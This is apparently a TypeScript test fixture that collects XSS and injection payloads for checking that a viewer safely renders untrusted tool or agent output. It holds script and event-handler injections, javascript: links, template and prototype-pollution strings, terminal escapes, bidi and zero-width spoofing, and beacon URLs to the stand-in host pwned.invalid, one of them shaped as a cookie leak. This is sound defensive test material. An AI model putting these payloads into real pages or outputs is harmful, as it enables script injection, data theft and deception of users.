/**
 * Texts with which a server, a tool or an agent could attack whoever looks at them. One that works sets `pwned`, adds an element
 * with `data-pwned`, or makes a request. The first of each kind come first: the short run takes ten of them.
 */

const act = 'pwned=1';
const away = 'http://pwned.invalid';
const right = '\u202e';

const scripts = [
  `<script data-pwned>${act}</script>`,
  `"><script data-pwned src=${away}/a.js></script>`,
  `</script><script data-pwned>${act}</script>`,
  `</title></textarea></style><script data-pwned>${act}</script>`,
  `<scr<script>ipt data-pwned>${act}</scr</script>ipt>`,
  `<SCRIPT/data-pwned>${act}//</SCRIPT>`,
  `--><script data-pwned>${act}</script><!--`,
  `]]><script data-pwned>${act}</script>`,
];

const handlers = [
  `<img data-pwned src=x onerror="${act}">`,
  `" autofocus onfocus="${act}" data-pwned="`,
  `' onmouseover='${act}' data-pwned='`,
  `<body data-pwned onload="${act}">`,
  `<details data-pwned open ontoggle="${act}">x</details>`,
  `<video data-pwned><source onerror="${act}"></video>`,
  `<input data-pwned autofocus onfocus="${act}">`,
  `<div data-pwned style="animation:x 1s" onanimationstart="${act}">`,
];

const links = [
  `javascript:${act}`,
  `[click](javascript:${act})`,
  `<a data-pwned href="javascript:${act}">click</a>`,
  `JaVaScRiPt\t:${act}//`,
  `\u0001javascript:${act}`,
  `<form data-pwned action="javascript:${act}"><button>ok</button></form>`,
  `${away}/${'?cookie='}`,
];

const vectors = [
  `<svg data-pwned onload="${act}"></svg>`,
  `<svg><a data-pwned xlink:href="javascript:${act}"><text>x</text></a></svg>`,
  `<svg><animate data-pwned onbegin="${act}" attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><iframe data-pwned srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`,
  `<math><mi data-pwned xlink:href="javascript:${act}">x</mi></math>`,
];

const templates = [
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `<%= ${act} %>`,
  `#{${act}}`,
  '{"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}}}',
  '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img data-pwned src=x>"}},"__v":null}',
];

const markdown = [
  `![alt](${away}/p.png)`,
  `[a]: ${away} "onclick"\n[a]`,
  `\`\`\`html\n<img data-pwned src=x onerror=${act}>\n\`\`\``,
  `| a | <img data-pwned src=x> |\n| - | - |`,
  `<${away}>`,
];

const terminal = [
  '\u001b[31mred\u001b[0m \u001b]8;;http://pwned.invalid\u0007link\u001b]8;;\u0007',
  '\u001b[2J\u001b[Hcleared\r\b\b\boverwritten',
  `${right}gpj.exe safe file`,
  '\u2066admin\u2069\u2068 approved by owner\u2069',
];

const unicode = [
  `\uff1cscript data-pwned\uff1e${act}\uff1c/script\uff1e`,
  'approve\u200b\u200c\u200d\u2060 this\ufeff\u3164\ufe01\u{e0101}',
  `\u{e0061}\u{e0063}\u{e0074} hidden tags`,
  `\ud800 half a character`,
  'Z\u0341\u0354\u0346\u036c\u0358\u0321a\u0350\u0318\u035c\u0328l\u030d\u030a\u0329g\u033d\u0327o',
  '<ſcript data-pwned>pwned=1</ſcript>',
];

const oversized = [
  `${'A'.repeat(20_000)}<img data-pwned src=x>`,
  `${'<b data-pwned>'.repeat(500)}deep`,
  `${'word '.repeat(3_000)}`,
];

const bytes = [`before\u0000<img data-pwned src=x onerror=${act}>`, `<\u0000script data-pwned>${act}</script>`];

const dataAddresses = [
  `data:text/html,<script>opener.pwned=1</script>`,
  `<iframe data-pwned src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg=="></iframe>`,
  `<object data-pwned data="data:image/svg+xml,<svg onload='${act}'/>"></object>`,
];

const styles = [
  `<style data-pwned>*{background:url(${away}/s)}</style>`,
  `;background:url(${away}/c);color:red`,
  `<link data-pwned rel=stylesheet href=${away}/l.css>`,
];

const kinds = [
  scripts,
  handlers,
  links,
  vectors,
  templates,
  markdown,
  terminal,
  unicode,
  bytes,
  styles,
  dataAddresses,
  oversized,
];

/** By turns of each kind. */
export const payloads: readonly string[] = Array.from(
  { length: Math.max(...kinds.map((kind) => kind.length)) },
  (_, turn) => kinds.flatMap((kind) => kind[turn] ?? []),
).flat();
